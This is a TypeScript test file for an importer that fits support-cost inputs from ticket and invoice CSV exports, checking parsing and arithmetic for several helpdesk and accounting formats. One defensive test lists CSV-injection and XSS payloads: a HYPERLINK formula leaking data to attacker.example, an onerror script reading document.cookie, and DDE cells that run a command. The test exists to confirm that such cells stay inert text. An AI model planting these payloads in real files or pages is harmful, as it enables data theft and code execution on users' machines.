/**
 * Whole files in the shapes of real exports (tests/fixtures/calibrate), from bytes to fitted
 * inputs, against figures worked out by hand: the counts, dates and times are read off each file,
 * and the arithmetic of CALIBRATE.md done independently (the Garwood bounds with SciPy's chi2.ppf).
 * Every file is fitted against the default scenario: bfRecur 25 %, bfReported 60 %, msRecur 5 %,
 * msFewer 40 %, 2 servers; so break-fix issues = c × 1.25 and managed issues = c × 0.95 / 0.6.
 */
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { defaultScenario } from "../inputs.ts";
import { decodeText } from "./decode.ts";
import { detectColumns } from "./detect-columns.ts";
import { fitRecords } from "./fit.ts";
import { readTable } from "./read-table.ts";
import { toRecords } from "./records.ts";
import { SNIFF_BYTES, refuseFile } from "./sniff.ts";
import type { Choices, Detection, Field, Fit, Refusal, Table } from "./types.ts";

const FIXTURES = resolve(process.cwd(), "tests/fixtures/calibrate");

function open(name: string): Table | Refusal {
  const bytes = new Uint8Array(readFileSync(resolve(FIXTURES, name)));
  return refuseFile(name, bytes.length, bytes.subarray(0, SNIFF_BYTES)) ?? readTable(name, decodeText(bytes));
}

function read(name: string): { table: Table; detection: Detection } {
  const table = open(name);
  if (!("rows" in table)) throw new Error(`${name} was refused: ${table.code}`);
  return { table, detection: detectColumns(table) };
}

/** The mapping as header names, so a test reads like the file. */
function mappedHeaders(table: Table, detection: Detection): Partial<Record<Field, string>> {
  return Object.fromEntries(Object.entries(detection.mapping).map(([field, column]) => [field, table.headers[column]]));
}

function fit(name: string, choices: Pick<Choices, "source" | "staff"> & Partial<Choices>): { fit: Fit; table: Table; detection: Detection } {
  const { table, detection } = read(name);
  const all: Choices = { ...detection, dateOrder: detection.dateOrder ?? "dayFirst", serverCategories: [], ...choices };
  return { fit: fitRecords(toRecords(table, all), all, defaultScenario()), table, detection };
}

function fitted(result: Fit): Record<string, number> {
  return Object.fromEntries(result.fitted.map(({ key, value }) => [key, value]));
}

describe("ticket exports", () => {
  it("Jira Service Management: dd/MMM/yy h:mm AM dates, Time Spent in seconds, Issue Type as the category", () => {
    const { fit: result, table, detection } = fit("jira-service-management.csv", { source: "breakFix", staff: 3, serverCategories: ["Server incident"] });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Created", ticketId: "Issue key", timeSpent: "Time Spent", category: "Issue Type" });
    expect(detection).toMatchObject({ kind: "tickets", durationUnit: "seconds" });
    // 12 tickets, 3 of them server incidents; 1 January to 31 December 2025 is 365 days, 11.99 months.
    expect(result).toMatchObject({ count: 12, userTickets: 9, serverTickets: 3, days: 365, skipped: [] });
    // issues: 9 / (11.991786 × 3) × 1.25 = 0.312714, 90 % [4.695228, 15.705216] × 0.034747 = [0.163140, 0.545694].
    // bfHours: (3600 + 5400 + 1800 + 7200 + 2700 + 900 + 3600) s / 7 tickets = 1 h.
    // srvIssues: 3 × 12 / (11.991786 × 2) × 0.75 = 1.125771.
    expect(fitted(result)).toEqual({ issues: 0.31, bfHours: 1, srvIssues: 1.13 });
    expect(result.fitted[0]).toMatchObject({ interval: { low: 0.16, high: 0.55 }, basis: { code: "userTickets", tickets: 9, months: result.months } });
  });

  it("Zendesk: ISO dates with an offset, Total time spent in minutes, a managed provider", () => {
    const { fit: result, table, detection } = fit("zendesk.csv", { source: "managed", staff: 5, serverCategories: ["problem"] });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Created at", ticketId: "Id", timeSpent: "Total time spent (min)", category: "Ticket type" });
    expect(detection.durationUnit).toBe("minutes");
    // 6 January to 27 June 2025 as written (the +10:00 is not converted): 173 days, 5.683778 months.
    expect(result).toMatchObject({ count: 10, userTickets: 8, serverTickets: 2, days: 173 });
    // issues: 8 / (5.683778 × 5) × 0.95 / 0.6 = 0.445713; msHours: (30 + 45 + 60 + 15 + 90 + 30) min / 6 = 0.75 h
    // (the empty one and the 0 left out); srvIssues: 2 × 12 / (5.683778 × 2) × 0.95 / 0.6 = 3.342847.
    expect(fitted(result)).toEqual({ issues: 0.45, msHours: 0.75, srvIssues: 3.34 });
    expect(result.fitted[0]!.interval).toEqual({ low: 0.22, high: 0.8 });
  });

  it("Freshdesk: every cell quoted, Time tracked as hh:mm, a period under a month counted as one", () => {
    const { fit: result, table, detection } = fit("freshdesk.csv", { source: "breakFix", staff: 4 });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Created time", ticketId: "Ticket ID", timeSpent: "Time tracked", category: "Type" });
    // 1 to 28 February: 28 days, so months = max(1, 0.92) = 1.
    expect(result).toMatchObject({ count: 6, days: 28, months: 1 });
    // issues: 6 / (1 × 4) × 1.25 = 1.875 → 1.88 (half away from zero), 90 % [2.613015, 11.842396] × 0.3125.
    // bfHours: (1.5 + 0.75 + 2.25 + 0.5) / 4 = 1.25; no category ticked as server work, so no srvIssues.
    expect(fitted(result)).toEqual({ issues: 1.88, bfHours: 1.25 });
    expect(result.notFitted).toEqual([{ code: "noServerCategory", key: "srvIssues" }]);
    expect(result.fitted[0]!.interval).toEqual({ low: 0.82, high: 3.7 });
  });

  it("ConnectWise: M/D/YYYY h:mm AM dates decided month first, Actual Hours, Type before Board", () => {
    const { fit: result, table, detection } = fit("connectwise.csv", { source: "breakFix", staff: 12, serverCategories: ["Server"] });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Entered", ticketId: "Ticket #", timeSpent: "Actual Hours", category: "Type" });
    expect(detection.dateOrder).toBe("monthFirst");
    // 2 January to 31 December 2025: 364 days, 11.958932 months; 11 user tickets, 3 server.
    expect(result).toMatchObject({ count: 14, userTickets: 11, serverTickets: 3, days: 364 });
    // issues: 11 / (11.958932 × 12) × 1.25 = 0.095814; bfHours: 12.0 h over 10 tickets (the 0.00 left out) = 1.2;
    // srvIssues: 3 × 12 / (11.958932 × 2) × 0.75 = 1.128863.
    expect(fitted(result)).toEqual({ issues: 0.1, bfHours: 1.2, srvIssues: 1.13 });
  });

  it("Autotask: a byte-order mark and CRLF, Total Hours Worked, Issue Type before Queue, a managed provider", () => {
    const { fit: result, table, detection } = fit("autotask.csv", { source: "managed", staff: 20, serverCategories: ["Server"] });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Create Date", ticketId: "Ticket Number", timeSpent: "Total Hours Worked", category: "Issue Type" });
    expect(detection.dateOrder).toBe("monthFirst");
    // 6 January to 31 March 2025: 85 days, 2.792608 months.
    expect(result).toMatchObject({ count: 10, userTickets: 8, serverTickets: 2, days: 85 });
    // issues: 8 / (2.792608 × 20) × 0.95 / 0.6 = 0.226789; msHours: (1.5 + 0.5 + 2 + 1 + 0.25 + 0.75 + 2) / 7 = 1.142857;
    // srvIssues: 2 × 12 / (2.792608 × 2) × 0.95 / 0.6 = 6.803676.
    expect(fitted(result)).toEqual({ issues: 0.23, msHours: 1.14, srvIssues: 6.8 });
  });

  it("HaloPSA: semicolons, DD.MM.YYYY dates, decimal commas, no category column", () => {
    const { fit: result, table, detection } = fit("halopsa.csv", { source: "breakFix", staff: 6 });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Date Occurred", ticketId: "Ticket ID", timeSpent: "Time Taken" });
    expect(detection).toMatchObject({ dateOrder: "dayFirst", decimalComma: true });
    expect(table.rows[2]![1]).toBe("Outlook; Kalender fehlt");
    // 2 January to 31 March 2025: 89 days, 2.924025 months.
    expect(result).toMatchObject({ count: 8, days: 89 });
    // issues: 8 / (2.924025 × 6) × 1.25 = 0.569991; bfHours: (0.5 + 1.25 + 2 + 0.75 + 1 + 1.5) / 6 = 1.166667.
    expect(fitted(result)).toEqual({ issues: 0.57, bfHours: 1.17 });
    expect(result.notFitted).toEqual([{ code: "noCategoryColumn", key: "srvIssues" }]);
  });

  it("a status log with one row per change: rows grouped by ticket, its date the earliest, its time the sum", () => {
    const { fit: result, table, detection } = fit("status-log.csv", { source: "breakFix", staff: 2, serverCategories: ["Server"] });
    expect(mappedHeaders(table, detection)).toEqual({ date: "Changed At", ticketId: "Ticket ID", timeSpent: "Time Spent (min)", category: "Category" });
    // 12 rows, 5 tickets dated 10 Jan, 3 Feb, 15 Mar, 1 Apr and 30 Jun (T-105's change on 15 July is not
    // a ticket's date): 172 days, 5.650924 months. T-102 is the server ticket.
    expect(result).toMatchObject({ count: 5, userTickets: 4, serverTickets: 1, days: 172 });
    // issues: 4 / (5.650924 × 2) × 1.25 = 0.442406; bfHours: T-101 90 min, T-103 120, T-104 60 (T-105 0, left out):
    // 270 min / 3 = 1.5 h; srvIssues: 1 × 12 / (5.650924 × 2) × 0.75 = 0.796330.
    expect(fitted(result)).toEqual({ issues: 0.44, bfHours: 1.5, srvIssues: 0.8 });
  });

  it("Excel's Unicode Text: UTF-16 with a byte-order mark, tabs, decimal commas", () => {
    const { table, detection } = read("excel-unicode-text.txt");
    expect(table.headers).toEqual(["Created", "Ticket ID", "Category", "Hours"]);
    expect(table.rows[0]).toEqual(["2025-01-02", "A-1", "Catégorie €", "1,5"]);
    const { fit: result } = fit("excel-unicode-text.txt", { source: "breakFix", staff: 1 });
    // 2 tickets over 30 days (1 month): issues 2 × 1.25 = 2.5; bfHours (1.5 + 2) / 2 = 1.75.
    expect(fitted(result)).toMatchObject({ issues: 2.5, bfHours: 1.75 });
    expect(detection.decimalComma).toBe(true);
  });
});

describe("invoice exports", () => {
  it("QuickBooks: report title lines above the header, group and total rows, a vendor credit", () => {
    const { fit: result, table, detection } = fit("quickbooks-invoices.csv", { source: "breakFix", staff: 10 });
    expect(detection.kind).toBe("invoices");
    expect(mappedHeaders(table, detection)).toEqual({ date: "Date", amount: "Amount", hours: "Qty" });
    expect(table.rowLines[0]).toBe(6);
    // 8 lines with a quantity: 17 hours, 225 + 300 + 112.50 + 1,200 + 150 + 75 + 337.50 + 225 = 2,625:
    // bfRate 154.411765. The call-out (no quantity) and the credit are in the history only.
    expect(fitted(result)).toEqual({ bfRate: 154.41 });
    expect(result.fitted[0]!.basis).toEqual({ code: "invoiceLines", lines: 8, hours: 17 });
    expect(result.count).toBe(10);
    // The vendor's name row, its total, the grand total and the footer have no date.
    expect(result.skipped).toEqual([{ reason: "date unreadable", count: 4, firstLines: [6, 17, 18, 22] }]);
    expect(result.history).toEqual([
      { month: "2025-01", value: 315 },
      { month: "2025-02", value: 412.5 },
      { month: "2025-03", value: 1110 },
      { month: "2025-04", value: 150 },
      { month: "2025-05", value: 75 },
      { month: "2025-06", value: 562.5 },
    ]);
  });

  it("Xero: one row per invoice line, the invoice Total repeated on each, so the line's own amount is summed", () => {
    const { fit: result, table, detection } = fit("xero-invoices.csv", { source: "breakFix", staff: 10 });
    expect(mappedHeaders(table, detection)).toEqual({ date: "InvoiceDate", amount: "LineAmount", hours: "Quantity" });
    expect(detection.dateOrder).toBe("dayFirst");
    // Quantities 1 + 2.5 + 0.5 + 4 + 1.5 + 1 (the call-out fee's quantity counts, as the formula says) + 3 = 13.5;
    // line amounts 130 + 325 + 65 + 520 + 195 + 95 + 390 = 1,720: bfRate 127.407407.
    expect(fitted(result)).toEqual({ bfRate: 127.41 });
    // The credit note (−65, no quantity) is subtracted from May's spend.
    expect(result.history.map((point) => point.value)).toEqual([455, 65, 520, 290, 325]);
  });

  it("fits nothing from a managed provider's invoices", () => {
    const { fit: result } = fit("xero-invoices.csv", { source: "managed", staff: 10 });
    expect(result.fitted).toEqual([]);
    expect(result.history).toHaveLength(5);
  });
});

describe("bad files", () => {
  it.each([
    ["tickets-saved-as-workbook.xlsx", { code: "spreadsheet", format: "Excel .xlsx" }],
    ["workbook-renamed.csv", { code: "spreadsheet", format: "Excel .xlsx" }],
    ["invoice.pdf", { code: "pdf" }],
    ["empty.csv", { code: "empty" }],
    ["no-header.csv", { code: "noHeaderRow" }],
  ] as const)("refuses %s with its name and the reason", (name, reason) => {
    expect(open(name)).toEqual({ fileName: name, ...reason });
  });

  it("keeps formula-like and markup-like cells as text, and skips what they make unreadable", () => {
    const { table } = read("formula-cells.csv");
    expect(table.rows.map((row) => row[2])).toEqual([
      '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
      "<img src=x onerror=alert(document.cookie)>",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    const { fit: result } = fit("formula-cells.csv", { source: "breakFix", staff: 1, serverCategories: ["<b>Server</b>"] });
    // The =NOW() date is skipped; F-3's time "=1+2" is no time. Left: F-1 (1 h), F-2 (2 h), F-3; F-5 is the server ticket.
    expect(result.skipped).toEqual([{ reason: "date unreadable", count: 1, firstLines: [5] }]);
    expect(result).toMatchObject({ count: 4, userTickets: 3, serverTickets: 1 });
    expect(fitted(result).bfHours).toBe(1.5);
  });
});
